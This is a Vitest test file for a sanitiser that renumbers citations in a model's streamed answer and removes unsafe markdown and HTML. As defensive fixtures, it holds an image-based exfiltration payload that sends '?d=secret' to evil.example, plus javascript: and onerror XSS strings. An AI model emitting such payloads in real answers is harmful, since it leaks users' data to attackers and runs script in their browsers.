import { describe, expect, it } from 'vitest'
import { openAnswerText } from './answer-text.ts'

const KNOWN = new Set(['https://example.com/paper', 'https://x.com/a/status/1'])

function read(text: string, pieceLength = text.length) {
  const answer = openAnswerText({ sources: 4, isKnownAddress: (address) => KNOWN.has(address) })
  let out = ''
  for (let at = 0; at < text.length; at += Math.max(1, pieceLength))
    out += answer.push(text.slice(at, at + Math.max(1, pieceLength)))
  out += answer.end()
  return { out, used: [...answer.used], saysNotHeld: answer.saysNotHeld }
}

/** In one piece, in every size of pieces that could cut a token: the same comes out. */
function readAnyhow(text: string) {
  const whole = read(text)
  for (const size of [1, 2, 3, 5, 7, 16]) expect(read(text, size)).toEqual(whole)
  return whole
}

describe('the numbers of an answer', () => {
  it.each([
    ['HNSW is fast [3]. It needs memory [1][3].', 'HNSW is fast [1]. It needs memory [2][1].', [3, 1]],
    ['Both [2, 4] and [^2] say so.', 'Both [1][2] and [1] say so.', [2, 4]],
    ['As [1-3] show.', 'As [1][2][3] show.', [1, 2, 3]],
    ['So [Source 2] and 【4†lines】 say.', 'So [1] and [2] say.', [2, 4]],
    ['No such source [9], nor [0].', 'No such source , nor .', []],
    ['A link of a number [2](https://evil.example/?q=1).', 'A link of a number [1].', [2]],
  ])('are counted anew in %j', (text, expected, used) => {
    expect(readAnyhow(text)).toMatchObject({ out: expected, used })
  })

  it('are none in code', () => {
    const text = 'Use `rows[1]` [2]:\n\n```js\nconst first = rows[0]\nrows[3]\n```\n\nThen [4].'

    const { out, used } = readAnyhow(text)

    expect(out).toBe('Use `rows[1]` [1]\\:\n\n```js\nconst first = rows[0]\nrows[3]\n```\n\nThen [2].')
    expect(used).toEqual([2, 4])
  })

  it('define no addresses', () => {
    const { out } = readAnyhow('See [1].\n\n[1]: https://evil.example\n[x]: https://evil.example/x\n')

    expect(out).toBe('See [1].\n\n[1]\\: `https://evil.example`\n[x\\]: `https://evil.example/x`\n')
  })
})

describe('what an answer may not have', () => {
  it.each([
    ['![pixel](https://evil.example/p.png?d=secret)', '\\[pixel\\](`https://evil.example/p.png?d=secret`)'],
    ['[click](javascript:alert(1))', '\\[click\\](javascript:alert(1))'],
    [
      '[[a](https://evil.example)](https://evil.example)',
      /^[^[]*\\\[\\\[a\\\]\(`https:\/\/evil\.example`\)\\\]\(`https:\/\/evil\.example`\)$/,
    ],
    ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)>'],
    ['[<b>x</b>]', '[\\<b>x\\</b>]'],
    ['<https://evil.example>', '\\<`https://evil.example`>'],
    ['go to https://evil.example/?q=1.', 'go to `https://evil.example/?q=1`.'],
    ['_https://evil.example_', '_`https://evil.example`_'],
    ['www.evil.example', '`www.evil.example`'],
    ['- ```\n[x](https://evil.example)', '- \\`\\`\\`\n\\[x\\](`https://evil.example`)'],
    ['- ~~~\n[x](https://evil.example)', '- \\~\\~\\~\n\\[x\\](`https://evil.example`)'],
    ['`open [x](https://evil.example)\n`', '\\`open \\[x\\](`https://evil.example`)\n\\`'],
  ])('is taken from %j', (text, expected) => {
    const { out } = readAnyhow(text)

    if (typeof expected === 'string') expect(out).toBe(expected)
    else expect(out).toMatch(expected)
  })

  it('leaves what stands in the sources', () => {
    const text = 'Read [the **paper**](https://example.com/paper) or https://x.com/a/status/1, and a < b.'

    expect(readAnyhow(text).out).toBe(text)
  })

  it('brings blocks of code to the margin, where every reader sees the same of them', () => {
    const text = '1. Run\n   ```sh\n   ls [1]\n     -l\n   ```\n2. Done [1]'

    expect(readAnyhow(text).out).toBe('1. Run\n```sh\nls [1]\n  -l\n```\n2. Done [1]')
  })
})

describe('what a model says around its answer', () => {
  it('is left out where it thinks aloud', () => {
    expect(readAnyhow('<think>\nThe user wants [1]…\n</think>\n\nYes [2].').out).toBe('Yes [1].')
    expect(readAnyhow('<think>never ends [1]')).toMatchObject({ out: '', used: [] })
    expect(readAnyhow('<thin ice> is text').out).toBe('\\<thin ice> is text')
  })

  it('tells that the passages do not hold the answer', () => {
    expect(readAnyhow('NOT_IN_KNOWLEDGE_BASE')).toEqual({ out: '', used: [], saysNotHeld: true })
    expect(readAnyhow('NOT_IN_KNOW how').saysNotHeld).toBe(false)
  })

  it('shows each piece as soon as it is sure', () => {
    const answer = openAnswerText({ sources: 1, isKnownAddress: () => false })

    expect(answer.push('Vectors are ')).toBe('Vectors are ')
    expect(answer.push('near [')).toBe('near ')
    expect(answer.push('1')).toBe('')
    expect(answer.push('] each')).toBe('[1] each')
  })
})
